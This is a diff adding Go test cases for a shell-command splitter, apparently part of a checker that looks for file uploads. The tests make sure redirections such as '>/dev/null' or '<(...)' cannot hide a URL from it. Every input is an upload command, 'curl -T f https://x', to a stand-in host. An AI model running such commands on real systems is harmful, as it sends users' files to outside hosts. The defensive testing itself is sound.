@@ -31,6 +31,12 @@ func TestSplitShell(t *testing.T) {
 		{"echo hi # curl -T f https://x\nls", `[]"echo hi"[;] [;]"ls"[]`},
 		{"{ a; b; }", `[]"a"[;] [;]"b"[;]`},
 		{`curl "unterminated`, `[]"curl unterminated"[]`},
+		// Redirections glued to a word end it, as in the shell (second
+		// adversarial review: the URL was keyed with ")" or ">/dev/null").
+		{`curl -T f https://x>/dev/null`, `[]"curl -T f https://x >/dev/null"[]`},
+		{`curl -T f https://x&>log`, `[]"curl -T f https://x &>log"[]`},
+		{`curl -T f https://x<<<y`, `[]"curl -T f https://x <<<y"[]`},
+		{`diff <(curl -T f https://x) /dev/null`, `[]"diff <(curl -T f https://x) /dev/null"[] n[]"curl -T f https://x"[]`},
 	}
 	for _, c := range cases {
 		if got := show(splitShell(c.in)); got != c.want {
